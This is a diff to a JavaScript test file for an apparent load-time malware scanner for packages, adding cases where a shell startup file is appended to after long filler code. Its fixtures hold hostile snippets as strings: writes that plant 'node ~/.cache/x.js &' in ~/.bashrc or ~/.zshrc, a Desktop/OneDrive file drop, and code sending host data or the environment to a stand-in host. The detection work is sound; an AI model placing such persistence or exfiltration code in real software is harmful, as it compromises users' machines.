@@ -11,6 +11,9 @@ const HEAD = "const os = require('os');\nconst https = require('https');\n";
 /** HOST_DATA_SEND as one expression (the body of an arrow without braces). */
 const SEND_EXPRESSION = HOST_DATA_SEND.slice(0, -1);
 
+/** About 2,000 characters of top-level statements that write nothing and name no startup place. */
+const SPACER = Array.from({ length: 150 }, (_, i) => `const v${i} = ${i};`).join('\n');
+
 describe('readLoadJavaScript: findings at load', () => {
   test.each([
     ['host data sent at the top level', HEAD + HOST_DATA_SEND, ['exfiltration']],
@@ -29,6 +32,7 @@ describe('readLoadJavaScript: findings at load', () => {
     ['a file dropped on the Desktop and OneDrive at load (peacenotwar 9.1.7)', "import fs from 'fs';\nimport { homedir } from 'os';\nvar Desktops = `${homedir}/Desktop/`;\nvar OneDrive = `${homedir}/OneDrive/`;\nfunction deliver(path, message) { try { fs.writeFile(path, message, function (err) {}); } catch (err) {} }\nif (!exists) { deliver(`${Desktops}WITH-LOVE.txt`, msg); deliver(`${OneDrive}WITH-LOVE.txt`, msg); }", ['user-files']],
     ['a Desktop file written only by an exported function nobody calls', "const fs = require('fs');\nconst os = require('os');\nexports.saveToDesktop = function (name, data) { fs.writeFileSync(os.homedir() + '/Desktop/' + name, data); };", []],
     ['a write to the shell startup file', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/x.js &\\n');", ['persistence']],
+    ['the shell startup file\'s path held by a name, appended to at load far below', `const fs = require('fs');\nconst os = require('os');\nconst rc = os.homedir() + '/.zshrc';\n${SPACER}\nfs.appendFileSync(rc, '\\nnode ~/.cache/x.js &\\n');`, ['persistence']],
   ])('%s', (_name, code, flags) => {
     expect(readLoadJavaScript(code)).toEqual(flags);
   });
@@ -156,6 +160,7 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ['telemetry that sends on an explicit call, with host data read into defaults at load', `${HEAD}const defaults = { host: os.hostname(), pid: process.pid };\nexports.capture = function (e) { https.request({ hostname: 't.example', method: 'POST' }).end(JSON.stringify({ ...defaults, e })); };`],
     ['an object method that posts the environment', "const https = require('https');\nmodule.exports = { flush() { https.request('https://t.example').end(JSON.stringify(process.env)); } };"],
     ['a network import beside host data, no call at load', `${HEAD}const hostname = os.hostname();\nmodule.exports = { hostname };`],
+    ['a bundle naming ~/.zshrc in a settings hint, its file writes at load far away', `const fs = require('fs');\nconst tips = { read: 'For example: Open(~/.zshrc)' };\n${SPACER}\nfs.writeFileSync(out, JSON.stringify(state));`],
     ['a shell completion script held as text', "export const completion = `# Installation: app completion >> ~/.bashrc\\n_app() { :; }`;"],
     ['a shell completion script held as text beside child_process (yargs as create-qwik 1.20.1 bundles it)', "const cp = require('child_process');\nvar la = `###-begin-{{app_name}}-completions-###\n#\n# Installation: {{app_path}} {{completion_command}} >> ~/.bashrc\n#    or {{app_path}} {{completion_command}} >> ~/.bash_profile on OSX.\n#\n_{{app_name}}_yargs_completions()\n`;"],
     ['a getter defined through a function, named like a host-data call, beside a network import', "var http = require('http');\nvar isIP = require('net').isIP;\nvar req = Object.create(http.IncomingMessage.prototype);\ndefineGetter(req, 'hostname', function hostname() { return this.get('Host'); });\ndefineGetter(req, 'ip', function ip() { return proxyaddr(this, os.hostname()); });"],
